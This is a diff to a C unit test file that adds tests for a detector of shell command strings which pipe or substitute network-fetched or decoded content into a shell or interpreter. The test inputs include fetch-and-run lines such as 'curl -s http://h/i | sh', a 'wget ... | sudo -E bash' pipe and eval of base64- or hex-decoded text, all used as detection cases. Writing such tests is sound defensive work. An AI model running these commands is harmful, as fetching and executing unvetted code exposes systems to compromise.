@@ -4,11 +4,13 @@
 #include <stddef.h>
 #include <stdint.h>
 #include <cmocka.h>
+#include <stdio.h>
 #include <string.h>
 #include "decoder.h"
 #include "plumbing.h"
 #include "process_table.h"
 #include "provenance.h"
+#include "shell_flow.h"
 #include "startup.h"
 
 static char cwd[] = "/work/tree";
@@ -276,6 +278,67 @@ static void a_decoder_is_told_by_what_it_does(void **s)
 	assert_true(decodes("busybox|base64|-d"));
 }
 
+static char told[256];
+
+static void tell(void *ctx, const struct shell_flow *flow)
+{
+	(void)ctx;
+	snprintf(told, sizeof(told), "%s%s%s%s: %.*s", flow->origins & ORIGIN_NETWORK ? "net " : "",
+		 flow->origins & ORIGIN_DECODER ? "decoder " : "", flow->builtin ? "builtin " : "",
+		 flow->substituted ? "words" : "pipe", (int)flow->text.len, flow->text.ptr);
+}
+
+static const char *flows(const char *string)
+{
+	strcpy(told, "-");
+	shell_flows(span_of(string), tell, NULL);
+	return told;
+}
+
+#define ESCAPES "\\x69\\x64\\x69\\x64\\x69\\x64\\x69\\x64"
+
+static void a_command_string_says_what_becomes_a_program(void **s)
+{
+	(void)s;
+	assert_string_equal(flows("cd /x; curl -s http://h/i | sh"),
+			    "net pipe: curl -s http://h/i | sh");
+	assert_string_equal(flows("wget -qO- h | tee f | sudo -E bash -s a"),
+			    "net pipe: wget -qO- h | tee f | sudo -E bash -s a");
+	assert_string_equal(flows("echo x; cat f | base64 -d | python3 -"),
+			    "decoder pipe: base64 -d | python3 -");
+	assert_string_equal(flows("echo -e '" ESCAPES "' | sh"),
+			    "decoder builtin pipe: echo -e '" ESCAPES "' | sh");
+	assert_string_equal(flows("bash -c \"$(curl -s h)\""),
+			    "net words: bash -c \"$(curl -s h)\"");
+	assert_string_equal(flows("eval \"$(echo x | base64 -d)\""),
+			    "decoder words: eval \"$(echo x | base64 -d)\"");
+	assert_string_equal(flows(". <(curl -s h)"), "net words: . <(curl -s h)");
+	assert_string_equal(flows("eval `printf '" ESCAPES "'`"),
+			    "decoder words: eval `printf '" ESCAPES "'`");
+}
+
+static void most_command_strings_do_not(void **s)
+{
+	static const char *const strings[] = {
+		"curl -s h | sh -c 'cat >/dev/null'",
+		"curl -s h | python3 -m json.tool",
+		"curl -s h | python3 x.py",
+		"curl -s h; sh",
+		"curl -s h | tar x | true; echo x | sh",
+		"base64 f | sh",
+		"echo -e '\\033[1mx' | sh",
+		"X=$(curl -s h); sh x.sh",
+		"echo \"$(curl -s h)\"",
+		"curl -s $(cat url) | grep x",
+		"bash x.sh $(curl -s h)",
+		"",
+	};
+
+	(void)s;
+	for (size_t i = 0; i < sizeof(strings) / sizeof(strings[0]); i++)
+		assert_string_equal(flows(strings[i]), "-");
+}
+
 int main(void)
 {
 	static const uint8_t seed[32] = { 1 };
@@ -290,6 +353,8 @@ int main(void)
 		cmocka_unit_test(the_entry_of_path_is_the_directory_as_it_was_asked_for),
 		cmocka_unit_test(a_start_up_variable_reaches_for_a_file_of_the_run),
 		cmocka_unit_test(a_decoder_is_told_by_what_it_does),
+		cmocka_unit_test(a_command_string_says_what_becomes_a_program),
+		cmocka_unit_test(most_command_strings_do_not),
 	};
 
 	masker_init(&run.masker, seed);
